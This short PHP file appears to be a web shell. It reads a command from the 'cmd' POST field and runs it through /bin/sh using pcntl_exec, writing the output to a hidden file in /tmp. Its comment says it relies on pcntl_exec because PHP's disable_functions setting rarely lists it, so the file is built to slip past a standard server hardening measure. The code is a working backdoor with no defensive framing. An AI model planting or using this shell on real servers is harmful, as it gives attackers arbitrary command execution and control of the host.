<?php
// probe (never run): runs a program with pcntl_exec, which disable_functions rarely lists
if (function_exists('pcntl_exec') && !empty($_POST['cmd'])) {
    $out = '/tmp/.o' . getmypid();
    pcntl_exec('/bin/sh', array('-c', $_POST['cmd'] . " > $out 2>&1"));
}
